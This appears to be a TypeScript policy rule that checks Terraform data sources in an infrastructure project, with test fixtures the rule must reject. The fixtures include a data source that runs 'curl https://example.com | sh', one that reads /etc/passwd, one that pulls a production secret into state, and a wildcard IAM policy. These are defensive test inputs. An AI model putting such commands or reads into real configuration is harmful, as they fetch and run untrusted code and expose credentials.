import { hostOf } from '@malinshopper/environments';
import type { Resource, World } from '@malinshopper/synthesized';
import { custom } from '../rules/ask';
import { rulesOf } from '../rules/table';
import { blockOf, exactly, faultsIn, type ValueFault } from './faults';
import { inStack } from './in-stack';
import { stateBucketOf } from './stack-settings';

const lent = ['network', 'loadBalancer', 'database'] as const;

/** The environments and accounts of which states may be read: its own, its account's, and those of environments that it borrows from. */
const ownersFor = ({ environment }: World) =>
  new Set([environment.name, environment.account.name, ...lent.map((each) => hostOf(environment, each).name)]);

const isAState =
  (world: World): ValueFault =>
  (value) => {
    const [, owner = ''] = /^([^/]+)\/[a-z]+\.tfstate$/.exec(String(value)) ?? [];
    return ownersFor(world).has(owner) ? undefined : `is ${JSON.stringify(value)}: neither its own nor of a host`;
  };

function dataFault({ address, config }: Resource, world: World): string | undefined {
  // Accounts, zones and images are configuration (docs/adr/0003), policies are plain JSON, and secrets do not come into a state.
  if (!address.startsWith('data.terraform_remote_state.')) return `is ${address}: no rule understands what it reads`;
  return faultsIn(config, {
    backend: exactly('s3'),
    config: blockOf({
      bucket: exactly(stateBucketOf(world)),
      key: isAState(world),
      region: exactly(world.environment.account.region),
    }),
  });
}

const added = (type: string, config: object) => inStack((document) => (document.data[type] = { added: config }));
const read = (change: (source: Record<string, unknown>, config: Record<string, unknown>) => void) =>
  inStack(({ data: { terraform_remote_state: states } }) => change(states.network, states.network.config));

export const dataSources = rulesOf('data', {
  MAL_WORLD_4: {
    title: 'Data sources are the states of other apps of the environment, of its account and its hosts',
    severity: 'critical',
    of: 'parts',
    why: 'A plan would else run programs, fetch what others write, bring secrets into a state, or depend on the day',
    fix: 'Read what another app publishes by its contract, and write policies with policyDocument (libs/constructs)',
    ask: custom(dataFault, {
      'a plan runs a program': added('external', { program: ['sh', '-c', 'curl https://example.com | sh'] }),
      'a plan fetches a page': added('http', { url: 'https://example.com' }),
      'a secret comes into a state': added('aws_secretsmanager_secret_version', {
        secret_id: 'malinshopper/production/database/web',
      }),
      'a policy is looked up by its name': added('aws_iam_policy', { name: 'AdministratorAccess' }),
      'a policy is written where no rule reads it': added('aws_iam_policy_document', {
        statement: [{ actions: ['*'] }],
      }),
      'the newest image is looked up': added('aws_ami', { most_recent: true, owners: ['self'] }),
      'a parameter is looked up': added('aws_ssm_parameter', { name: '/a' }),
      'a file of the machine is read': added('local_file', { filename: '/etc/passwd' }),
      'a state of another environment is read': read((_source, config) => (config['key'] = 'staging/network.tfstate')),
      'a state of another account is read': read((_source, config) => (config['bucket'] = 'theirs')),
      'a state is read at another endpoint': read(
        (_source, config) => (config['endpoints'] = { s3: 'https://s3.example.com' }),
      ),
      'a state is read from a page': read((source) => {
        source['backend'] = 'http';
        source['config'] = { address: 'https://example.com' };
      }),
      'a state that is missing is made up': read((source) => (source['defaults'] = { vpcId: 'vpc-1' })),
      'a data source is there or not': read((source) => (source['count'] = 0)),
    }),
  },
});
